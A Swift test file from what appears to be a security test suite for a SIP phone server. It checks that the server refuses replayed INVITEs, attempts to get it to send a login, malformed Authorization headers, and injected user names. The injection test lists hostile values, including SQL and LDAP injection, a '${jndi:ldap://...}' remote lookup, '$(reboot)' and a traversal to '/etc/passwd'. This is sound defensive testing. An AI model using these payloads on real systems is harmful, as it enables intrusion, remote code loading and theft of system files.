// SPDX-License-Identifier: Apache-2.0

import Guard
import Model
import Primitives

/// Abusing logins beside guessing them: moving, leaking, mangling and injecting them.
enum CredentialAttacks {
    static let all = [movedInvite, leak, malformed, injection]

    private static let movedInvite = Attack(
        .intrusionDetection,
        "C04",
        "Place a call with somebody else's overheard INVITE",
        attempted: "an INVITE with a login, said again for another number, and again with another media address",
        expected: "401 each time, and no phone rings",
        phones: 2,
        run: { (phones, wire, target) async throws(WireError) in
            let draft = try await phones[0].invitation(to: "000")
            let challenge = try await phones[0].challenge(to: draft)
            let overheard = await phones[0].authorised(draft, challenge, LoginForm())
            if let answer = try await phones[0].line().ask(overheard) {
                try await phones[0].acknowledge(answer, to: draft)
            }
            var seen: [String] = []
            for (name, change) in [("another number", Move.number), ("another media address", .media)] {
                var moved = overheard
                moved.ids = Identifiers(using: wire.entropy)
                switch change {
                case .number:
                    let victim = "sip:\(phones[1].account.number)@\(target.domain)"
                    (moved.uri, moved.to) = (victim, victim)
                case .media:
                    moved.body = OfferText.encrypted(port: 50_505, using: wire.entropy)
                }
                let status = try await phones[0].line().ask(moved)?.status
                seen.append("\(name): \(status.map(String.init) ?? "no answer")")
                if status != 401 { return .broken(seen.joined(separator: "; ")) }
            }
            if let line = try await phones[1].unasked() { return .broken("the other phone got '\(line)'") }
            return .held(seen.joined(separator: "; ") + "; the other phone stayed silent")
        }
    )

    private enum Move { case number, media }

    private static let leak = Attack(
        .intrusionDetection,
        "C06",
        "Ask the server for a login",
        attempted:
            "as a phone that is called: answer the server's INVITE with 407 and its BYE with 401, each with a challenge of the attacker's own",
        expected: "the call ends, and no login comes from the server",
        run: { (wire, target) async throws(WireError) in
            let call = try await TestCall.connect(wire, target)
            let afterBye = try await call.end(refusing: "401 Unauthorized")
            if let leaked = afterBye { return .broken("after 401 to BYE: '\(leaked)'") }
            let afterInvite = try await TestCall.refuse("407 Proxy Authentication Required", wire, target)
            if let leaked = afterInvite { return .broken("after 407 to INVITE: '\(leaked)'") }
            return .held("neither the INVITE nor the BYE came again with a login")
        }
    )

    private static let malformed = Attack(
        .intrusionDetection,
        "C09",
        "Send logins that no phone would write",
        attempted:
            "\(Mangled.all.count) Authorization headers: unfinished, doubled, of 64 KB, with bytes that are no text, of other schemes",
        expected:
            "400, 401 or 413 each time, at most followed by the end of the connection; another stranger is answered afterwards",
        run: { (wire, target) async throws(WireError) in
            for (name, header) in Mangled.all {
                let line = try await wire.converse(Endpoint(.tls, port: target.tlsPort))
                var draft = RequestDraft.probe("REGISTER", name: "100", domain: target.domain.text, using: wire.entropy)
                draft.extra.append(header.components(at: "NONCE").joined(separator: wire.entropy.token(bits: 240)))
                // What stands for a byte that is no text.
                _ = try? await line.say(draft.bytes.map { $0 == 1 ? 0xFF : $0 })
                let heard = await line.next(within: Limits.reply)
                await line.close()
                switch heard {
                case .message(let answer, _) where [400, 401, 413, 513].contains(answer.status): break
                case .closed: break
                case .message(let answer, _): return .broken("\(name): '\(answer.firstLine)'")
                case .silence: return .broken("\(name): neither an answer nor an end")
                }
            }
            guard try await Honesty.isServed(wire, target) else { return .broken("nobody is answered any more") }
            return .held("\(Mangled.all.count) of them refused; another stranger was answered afterwards")
        }
    )

    private static let injection = Attack(
        .intrusionDetection,
        "C12",
        "Put commands into a login",
        attempted: "user names made of SQL, LDAP, shell, log and path commands, with a wrong password",
        expected: "401 each time, as for every name that does not exist",
        run: { (wire, target) async throws(WireError) in
            guard let account = target.accounts.first else { return .needsAccount }
            let names = [
                "' OR '1'='1", "admin'--", "*)(uid=*", "${jndi:ldap://192.0.2.1/a}", "$(reboot)",
                "../../../etc/passwd", "%s%n%x", "') OR ('1'='1",
            ]
            for name in names {
                let phone = TestPhone(account, wire, target)
                let status = try await phone.register(LoginForm(password: Redacted("x"), username: name))?.status
                await phone.hangUp()
                if status != 401 { return .broken("'\(name)' got \(status.map(String.init) ?? "no answer")") }
            }
            let phone = TestPhone(account, wire, target)
            guard try await phone.register()?.status == 200 else { return .broken("the phone itself is not let in") }
            try await phone.unregister()
            return .held("\(names.count) names got 401; the phone itself is let in")
        }
    )
}

/// Authorization headers as no phone writes them. `NONCE` stands for digits, byte 1 for one that is no text.
private enum Mangled {
    private static let whole =
        "Digest username=\"a\", realm=\"r\", nonce=\"NONCE\", uri=\"sip:x\", response=\"0123456789abcdef0123456789abcdef\""

    static let all: [(String, String)] = [
        ("nothing", "Authorization:"), ("only the scheme", "Authorization: Digest"),
        ("no response", "Authorization: Digest username=\"a\", realm=\"r\", nonce=\"NONCE\", uri=\"sip:x\""),
        ("an open quote", "Authorization: Digest username=\"a, realm=r"),
        ("64 KB of name", "Authorization: Digest username=\"\(String(repeating: "a", count: 65_536))\""),
        ("doubled parameters", "Authorization: \(whole), username=\"b\", nonce=\"NONCE\""),
        ("two headers", "Authorization: \(whole)\r\nAuthorization: \(whole)"),
        ("userhash", "Authorization: \(whole), userhash=true"),
        ("a count that is none", "Authorization: \(whole), qop=auth, cnonce=\"c\", nc=xyz"),
        ("a count of zero", "Authorization: \(whole), qop=auth, cnonce=\"c\", nc=00000000"),
        ("bytes that are no text", "Authorization: Digest username=\"\u{1}\u{1}\u{1}\", realm=\"\u{1}\""),
        ("another scheme", "Authorization: Basic YTpi"), ("a token", "Authorization: Bearer x"),
        ("commas", "Authorization: Digest ,,,,,,,,=,=,\"\",,"),
        ("a hundred parameters", "Authorization: Digest " + (0..<100).map { "p\($0)=v" }.joined(separator: ", ")),
    ]
}
